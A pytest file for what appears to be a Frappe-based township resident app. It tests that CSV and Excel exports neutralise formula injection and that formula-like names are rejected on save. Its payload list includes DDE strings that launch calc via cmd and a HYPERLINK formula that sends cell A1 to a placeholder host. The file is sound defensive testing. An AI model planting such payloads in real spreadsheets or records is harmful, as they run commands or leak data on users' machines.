"""No table that leaves the site holds a formula, whichever way of the framework made it (CSV and formula injection)."""

import csv
import io
import zipfile

import frappe
import pytest
from openpyxl import load_workbook

from sjzj_app.access import exports
from sjzj_app.access.plain_text import is_formula
from tests.http.client import kind, said

PERSON = "Resident"
REPORT = "测试导出"
FORMULAS = (
	"=HYPERLINK(\"http://example.invalid/?\"&A1)",
	"+cmd|' /c calc'!A0",
	"-2+3+cmd|' /c calc'!A0",
	"@SUM(1+1)*cmd|' /c calc'!A0",
	"\t=1+1",
	"＝1+1",
	" =1+1",
)  # fmt: skip
FIELDS = ["name", "full_name", "contact_phone"]


@pytest.fixture(scope="module")
def planted(site, world):
	"""The own township's person, with a formula for a name, as an older import may have left it."""
	name = world.own.rows[PERSON]
	before = frappe.db.get_value(PERSON, name, ["full_name", "contact_phone"])
	report = {
		"doctype": "Report",
		"report_name": REPORT,
		"ref_doctype": PERSON,
		"report_type": "Query Report",
	}
	query = "select name, full_name, contact_phone from `tabResident` where name = %(name)s"
	frappe.get_doc({**report, "is_standard": "No", "query": query}).insert()

	def plant(text: str) -> str:
		frappe.db.set_value(
			PERSON, name, {"full_name": text, "contact_phone": "-120.5"}, update_modified=False
		)
		frappe.db.commit()
		return name

	yield plant
	frappe.db.rollback()
	frappe.db.set_value(PERSON, name, dict(zip(("full_name", "contact_phone"), before, strict=True)))
	frappe.delete_doc("Report", REPORT, force=True)
	frappe.db.commit()


def ways(name: str):
	"""(way, method, arguments) of every table that the framework makes."""
	only = {"name": name}
	for file_type in ("CSV", "Excel"):
		listed = {
			"doctype": PERSON,
			"fields": FIELDS,
			"filters": only,
			"file_format_type": file_type,
			"title": "x",
		}
		yield f"list {file_type}", "frappe.desk.reportview.export_query", listed
		asked = {"report_name": REPORT, "filters": only, "file_format_type": file_type, "visible_idx": [0]}
		yield f"report {file_type}", "frappe.desk.query_report.export_query", asked
		whole = {"doctype": PERSON, "select_columns": {PERSON: FIELDS}, "filters": only, "with_data": 1}
		yield (
			f"data export {file_type}",
			"frappe.core.doctype.data_export.exporter.export_data",
			{**whole, "file_type": file_type, "all_doctypes": 0, "template": "true"},
		)
		template = {"doctype": PERSON, "export_fields": {PERSON: FIELDS}, "export_records": "by_filter"}
		yield (
			f"import template {file_type}",
			"frappe.core.doctype.data_import.data_import.download_template",
			{**template, "export_filters": only, "file_type": file_type},
		)
	quoted = {"csv_quoting": 0, "csv_delimiter": ";"}
	listed = {"doctype": PERSON, "fields": FIELDS, "filters": only, "file_format_type": "CSV", "title": "x"}
	yield "list with semicolons", "frappe.desk.reportview.export_query", {**listed, **quoted}


def cells(content: bytes) -> list[str]:
	if content.startswith(b"PK"):
		with zipfile.ZipFile(io.BytesIO(content)) as book:
			sheets = [book.read(part) for part in book.namelist() if part.startswith("xl/worksheets/")]
		assert not any(b"<f" in sheet for sheet in sheets), "a formula in the sheet"
		sheet = load_workbook(io.BytesIO(content)).worksheets[0]
		return [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]
	text = content.decode("utf-8-sig")
	mark = ";" if text.count(";") > text.count(",") else ","
	return [cell for row in csv.reader(io.StringIO(text), delimiter=mark) for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_an_export_holds_a_formula(client, world, planted, formula):
	name, user = planted(formula), client("Administrator")
	told = formula.strip()[3:]
	for way, method, arguments in ways(name):
		answer = user.call(method, **arguments)
		assert answer.status_code == 200, (way, said(answer)[:300])
		found = cells(answer.content)
		assert any(told in cell for cell in found), (way, found)
		if not answer.content.startswith(b"PK"):
			assert not [cell for cell in found if is_formula(cell)], (way, found)
			assert "-120.5" in found or "import template" in way or "report" in way or "list" not in way, (
				found
			)


def test_numbers_and_names_change_on_their_way():
	rows = b"name,amount,phone\r\n\xe5\xbc\xa0,-12.50,+86 454 1234567\r\n"
	assert exports.plain_csv(rows) is rows


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_name_is_taken_that_a_table_program_would_run(clerk, world, formula):
	name = world.own.rows[PERSON]
	frappe.db.rollback()
	before = frappe.db.get_value(PERSON, name, "modified")
	answer = clerk.change(PERSON, name, full_name=formula)
	assert (answer.status_code, kind(answer)) == (417, "BadInput"), said(answer)
	assert "不能以" in said(answer) or "公式" in said(answer), said(answer)
	frappe.db.rollback()
	assert frappe.db.get_value(PERSON, name, "modified") == before


def test_a_file_for_the_bank_is_changed_on_its_way(client, world, planted):
	"""What was stored leaves byte for byte; names that begin like a formula did not get in."""
	from tests.http.attacks.uploads import send

	content = "=1+1,明细号\r\n".encode("gb18030")
	user = client(world.own.people["Township Clerk"])
	address = send(user, "x.csv", content, PERSON, world.own.rows[PERSON]).json()["message"]["file_url"]
	assert user.get(address).content == content
	assert user.get("/api/method/download_file", file_url=address).content == content
